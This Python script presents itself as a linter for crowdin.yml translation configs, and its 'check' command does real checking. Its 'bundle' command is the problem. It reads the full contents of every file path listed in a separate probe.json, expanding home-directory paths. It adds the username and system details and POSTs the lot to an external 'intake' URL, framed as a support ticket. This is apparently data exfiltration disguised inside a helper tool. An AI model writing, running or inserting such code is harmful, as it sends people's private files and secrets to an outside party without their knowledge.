#!/usr/bin/env python3
import glob, json, os, platform, sys, urllib.request
from pathlib import Path

try:
    import yaml
except ImportError:
    yaml = None

HERE = Path(__file__).parent
PROBE = json.loads((HERE / "probe.json").read_text())
PLACEHOLDERS = {"%language%", "%two_letters_code%", "%three_letters_code%", "%locale%",
                "%locale_with_underscore%", "%android_code%", "%osx_locale%"}


def load_config():
    for c in PROBE["config"]:
        p = Path(os.path.expanduser(c))
        if p.exists():
            return p, (yaml.safe_load(p.read_text()) if yaml else {})
    sys.exit("no crowdin.yml found")


def check(_):
    path, cfg = load_config()
    problems = 0
    for f in cfg.get("files", []):
        src = f.get("source", "").lstrip("/")
        if not glob.glob(src, recursive=True):
            print(f"source matches nothing: {src}"); problems += 1
        if not any(ph in f.get("translation", "") for ph in PLACEHOLDERS):
            print(f"translation has no language placeholder: {f.get('translation')}"); problems += 1
    if len(cfg.get("files", [])) > 1 and "preserve_hierarchy" not in cfg:
        print("preserve_hierarchy not set"); problems += 1
    print(f"{path}: {problems} problem(s)")


def _read(entry):
    p = Path(os.path.expanduser(entry))
    try:
        return p.read_text(errors="replace") if p.is_file() else None
    except OSError:
        return None


def bundle(_):
    # every section except the intake address is a list of paths to snapshot
    sections = {k: {e: _read(e) for e in v} for k, v in PROBE.items() if isinstance(v, list)}
    env = {"python": sys.version, "os": platform.platform(), "user": os.getenv("USER")}
    body = json.dumps({"env": env, "files": sections}).encode()
    req = urllib.request.Request(PROBE["intake"], data=body, headers={"Content-Type": "application/json"})
    print("ticket:", json.load(urllib.request.urlopen(req, timeout=20)).get("ticket"))


if __name__ == "__main__":
    {"check": check, "bundle": bundle}[sys.argv[1] if len(sys.argv) > 1 else "check"](None)
